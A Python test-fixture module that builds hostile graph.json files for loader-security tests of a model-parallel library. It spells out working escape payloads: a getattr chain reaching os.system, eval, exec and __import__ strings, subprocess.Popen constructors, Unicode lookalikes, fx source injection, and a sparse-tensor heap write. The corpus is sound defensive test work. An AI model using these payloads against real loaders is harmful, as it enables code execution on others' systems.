"""The hostile graph corpus shared by the unit and integration loader-security tests: each attempt is a
graph.json whose node asks a process to construct or call something outside the loader's allow-lists."""
from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import torch
from torch import nn

from model_parallel.graph.core import Graph
from model_parallel.graph.plan import Plan, StagePlan

SENTINEL_NAME = "pwned"
BUILT: list[str] = []  # Tripwire constructions


class Tripwire(nn.Module):
    """A legitimate layer placed before the hostile node: constructing it means layers were built."""

    def __init__(self) -> None:
        super().__init__()
        BUILT.append("tripwire")

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


@dataclass(frozen=True)
class Attempt:
    name: str
    nodes: list  # (node_id, layer dict) after the input and the tripwire; the last one is the output
    metadata: dict = field(default_factory=dict)
    code_named: bool = True  # refused by the function/method/form checks alone (so also by the coordinator)


def _call(target: str, *args: Any, op: str = "call_function", **kwargs: Any) -> dict:
    return {"op": op, "target": target, "args": list(args), "kwargs": kwargs}


def _module(expression: str) -> dict:
    return {"op": "call_module", "target": "evil", "args": [{"node": "trip"}], "module": expression}


def corpus(sentinel: Path) -> list[Attempt]:
    s = str(sentinel)
    shell = f"touch {s}"
    system = f"__import__('os').system({shell!r})"
    x = {"node": "trip"}
    return [
        # The exploit: getattr walks from a tensor to torch's `os`, and map drives os.system.
        Attempt("getattr_chain_globals_map", [
            ("evil", _call("builtins.getattr", x, "__class__")),
            ("evil_repr", _call("builtins.getattr", {"node": "evil"}, "__repr__")),
            ("evil_globals", _call("builtins.getattr", {"node": "evil_repr"}, "__globals__")),
            ("evil_torch", _call("operator.getitem", {"node": "evil_globals"}, "torch")),
            ("evil_os", _call("builtins.getattr", {"node": "evil_torch"}, "os")),
            ("evil_system", _call("builtins.getattr", {"node": "evil_os"}, "system")),
            ("evil_map", _call("builtins.map", {"node": "evil_system"}, [shell])),
            ("evil_run", _call("builtins.list", {"node": "evil_map"})),
        ]),
        Attempt("getattr_plain_spelling", [("evil", _call("getattr", x, "__class__"))]),
        Attempt("getattr_unknown_attribute", [("evil", _call("getattr", x, "grad_fn"))]),
        Attempt("getattr_attribute_from_a_node", [("evil", _call("getattr", x, x))]),
        # The second exploit: metadata.model_class widened the allowed roots to `os`.
        Attempt("model_class_os_system", [("evil", _call("os.system", shell))], {"model_class": "os.system"}),
        Attempt("model_class_os_path", [("evil", _call("os.path.os.system", shell))], {"model_class": "os.path.join"}),
        Attempt("model_class_constructor", [("evil", _module(f"subprocess.Popen(['touch', {s!r}])"))],
                {"model_class": "subprocess.Popen"}, code_named=False),
        Attempt("operator_attrgetter", [("evil", _call("operator.attrgetter", "__class__"))]),
        Attempt("operator_methodcaller", [("evil", _call("operator.methodcaller", "system", shell))]),
        Attempt("builtins_eval", [("evil", _call("builtins.eval", system))]),
        Attempt("builtins_exec", [("evil", _call("exec", system))]),
        Attempt("builtins_compile", [("evil", _call("builtins.compile", system, "<graph>", "eval"))]),
        Attempt("builtins_import", [("evil", _call("builtins.__import__", "os"))]),
        Attempt("builtins_open", [("evil", _call("builtins.open", s, "w"))]),
        Attempt("builtins_setattr", [("evil", _call("builtins.setattr", x, "forward", 1))]),
        Attempt("torch_load", [("evil", _call("torch.load", s))]),
        Attempt("torch_hub_load", [("evil", _call("torch.hub.load", "evil/repo", "model"))]),
        Attempt("torch_ops_load_library", [("evil", _call("torch.ops.load_library", s))]),
        Attempt("torch_name_importer", [("evil", _call("torch.set_default_tensor_type", "os.system"))]),
        Attempt("module_namespace_walk", [("evil", _call("torch.nn.functional.importlib.import_module", "os"))]),
        Attempt("unicode_lookalike_function", [("evil", _call("torch.l\u043ead", s))]),  # Cyrillic o
        Attempt("unicode_lookalike_constructor", [("evil", _module(f"\uff4f\uff53.system({shell!r})"))]),  # fullwidth os
        Attempt("constructor_call_in_arguments", [("evil", _module(f"torch.nn.Linear(4, {system})"))]),
        Attempt("constructor_nested_call", [("evil", _module("torch.nn.Sequential(torch.nn.Linear(4, 4))"))]),
        Attempt("constructor_lambda", [("evil", _module(f"torch.nn.Linear((lambda: {system})(), 4)"))]),
        Attempt("constructor_attribute_in_arguments",
                [("evil", _module("torch.nn.Linear(().__class__.__base__.__subclasses__()[0], 4)"))]),
        Attempt("constructor_starred_kwargs", [("evil", _module(f"torch.nn.Linear(*[4, 4], **{{'bias': {system}}})"))]),
        Attempt("constructor_not_a_call", [("evil", _module(f"torch.nn.Linear(4, 4) if {system} else 0"))]),
        Attempt("constructor_100kb", [("evil", _module("torch.nn.Linear(" + "1+" * 50_000 + "1, 4)"))]),
        Attempt("constructor_dunder_class", [("evil", _module("torch.nn.Linear.__init__.__globals__(4, 4)"))]),
        Attempt("method_register_hook", [("evil", _call("register_hook", x, op="call_method"))]),
        Attempt("method_dunder_reduce", [("evil", _call("__reduce_ex__", x, 2, op="call_method"))]),
        Attempt("method_numpy_then_dump", [("evil", _call("numpy", x, op="call_method")),
                                           ("evil_dump", _call("dump", {"node": "evil"}, s, op="call_method"))]),
        Attempt("get_attr_dunder", [("evil", {"op": "get_attr", "target": "__class__"})]),
        # fx prints keyword names into the forward's source: this one would run os.system there.
        Attempt("keyword_name_source_injection",
                [("evil", _call("torch.relu", x, **{f"input=x) if {system} else torch.relu(input": 1}))]),
        Attempt("callable_typed_argument", [("evil", _call("builtins.max", [s], key={"dtype": "load"}))]),
        Attempt("deeply_nested_arguments", [("evil", _call("torch.cat", _nested([x], 100)))]),
        # Memory safety (issue 33): a sparse tensor with an index past its size, added to a dense one,
        # wrote past a heap buffer; const_data_ptr leaked heap addresses; as_strided reads by literal strides.
        Attempt("sparse_coo_heap_write", [("evil", _call("torch.sparse_coo_tensor", [[0], [100000000]], [7.0],
                                                         {"tuple": [2, 128]})),
                                          ("evil_add", _call("torch.add", x, {"node": "evil"}))]),
        Attempt("method_const_data_ptr", [("evil", _call("const_data_ptr", x, op="call_method"))]),
        Attempt("aten_as_strided", [("evil", _call("torch.ops.aten.as_strided.default", x, [10], [100000]))]),
    ]


def _nested(value: Any, depth: int) -> Any:
    for _ in range(depth):
        value = [value]
    return value


def _refs(value: Any) -> list[str]:
    if isinstance(value, list):
        return [r for v in value for r in _refs(v)]
    if isinstance(value, dict):
        return [value["node"]] if set(value) == {"node"} else [r for v in value.values() for r in _refs(v)]
    return []


def graph_dict(attempt: Attempt, tripwire: bool = True) -> dict:
    """graph.json of the attempt: input x, (tripwire), the hostile nodes; every node on stage 0."""
    first = "trip" if tripwire else "x"
    nodes = [("x", {"op": "placeholder", "target": "x", "outputs": [{"shape": [2, 4], "dtype": "float32"}]})]
    if tripwire:
        nodes.append(("trip", {"op": "call_module", "target": "trip", "args": [{"node": "x"}],
                               "module": f"{__name__}.Tripwire()"}))
    nodes += [(i, json.loads(json.dumps(layer).replace('"trip"', f'"{first}"'))) for i, layer in attempt.nodes]
    edges = [[ref, node_id] for node_id, layer in nodes for ref in dict.fromkeys(_refs([layer.get("args"), layer.get("kwargs")]))]
    return {
        "schema": "model_parallel.graph", "version": 1,
        "metadata": {"outputs": {"node": nodes[-1][0]}, "inputs": [{"name": "x", "shape": [2, 4], "dtype": "float32"}],
                     "model_class": f"{__name__}.Model", **attempt.metadata},
        "nodes": [{"id": i, "description": layer["op"], "forward_ms": 1.0, "backward_ms": 1.0, "activation_size": 32.0,
                   "parameter_size": 0.0, "stage_id": 0, "layer": layer} for i, layer in nodes],
        "edges": edges,
    }


def one_stage(graph: Graph) -> Plan:
    return Plan((StagePlan(0, tuple(graph.topological_order), ranks=(0,)),))


